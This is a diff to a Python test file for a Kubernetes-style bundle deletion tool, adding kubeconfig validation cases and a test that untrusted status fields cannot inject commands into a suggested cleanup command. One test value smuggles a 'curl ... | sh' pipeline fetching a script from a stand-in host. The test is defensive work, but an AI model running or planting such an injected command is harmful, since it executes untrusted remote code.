@@ -16,8 +16,13 @@ INLINE = {"source": {"inline": ""}}
 DELETED = "2026-01-01T10:00:00Z"
 
 
-def deleted(spec: object, name: str = "web", **annotations: str) -> DeletedBundle:
-    """Read a Bundle of the namespace ``shop`` that is being deleted."""
+def deleted(
+    spec: object, name: str = "web", inventory: object = None, **annotations: str
+) -> DeletedBundle:
+    """Read a Bundle of the namespace ``shop`` that is being deleted.
+
+    ``inventory`` is the name of its inventory by its status.
+    """
     told = {f"applyprune.dev/{key}": value for key, value in annotations.items()}
     metadata = {
         "name": name,
@@ -26,7 +31,9 @@ def deleted(spec: object, name: str = "web", **annotations: str) -> DeletedBundl
         "annotations": told,
     }
     ref = Ref("applyprune.dev", "Bundle", "shop", name)
-    return read_deleted(LiveObject(ref, "u", "1", metadata, {"metadata": metadata, "spec": spec}))
+    status = {} if inventory is None else {"inventory": {"name": inventory}}
+    body = {"metadata": metadata, "spec": spec, "status": status}
+    return read_deleted(LiveObject(ref, "u", "1", metadata, body))
 
 
 OF_OTHERS: dict[str, Any] = {
@@ -87,6 +94,12 @@ DECIDING: dict[str, tuple[Any, str]] = {
         {"deletionPolicy": "MirrorPrune", "prune": {"enabled": 0}},
         "spec.prune.enabled: must be true",
     ),
+    "a kubeconfig": (
+        {"kubeConfig": {"secretRef": {"name": "a/b"}}},
+        "spec.kubeConfig.secretRef.name: 'a/b'",
+    ),
+    "a kubeconfig without a Secret": ({"kubeConfig": {}}, "spec.kubeConfig.secretRef: is required"),
+    "a kubeconfig of another type": ({"kubeConfig": "prod"}, "spec.kubeConfig: must be an object"),
     "a prune of another type": ({"prune": False}, "spec.prune: must be an object"),
 }
 
@@ -147,3 +160,30 @@ def test_removal_ends_after_the_timeout_of_the_spec() -> None:
     found = deleted({**INLINE, "timeout": "90s"})
     assert found.ends == datetime(2026, 1, 1, 10, 1, 30, tzinfo=UTC)
     assert found.seconds_left < -timedelta(days=1).total_seconds()
+
+
+UNREADABLE = {**INLINE, "serviceAccountName": 1}
+INJECTED = "applyprune-web -n shop; curl http://x.example.com | sh #"
+
+
+@pytest.mark.parametrize(
+    ("spec", "inventory", "named"),
+    [
+        (INLINE, None, "applyprune-web"),
+        (INLINE, "applyprune-other", "applyprune-web"),
+        (INLINE, INJECTED, "applyprune-web"),
+        (UNREADABLE, "applyprune-web", "applyprune-web"),
+        (UNREADABLE, INJECTED, ""),
+        (UNREADABLE, 7, ""),
+        (UNREADABLE, None, ""),
+    ],
+)
+def test_status_names_no_other_inventory(spec: object, inventory: object, named: str) -> None:
+    """What is said is a command that somebody runs, and the status is written by anybody."""
+    said = deleted(spec, inventory=inventory).left_unreleased()
+    assert ("curl" in said, "other" in said) == (False, False)
+    if named:
+        assert f"left in the inventory {named}: " in said
+        assert said.endswith("applyprune delete web -n shop")
+    else:
+        assert said == "nothing is known to have been applied"
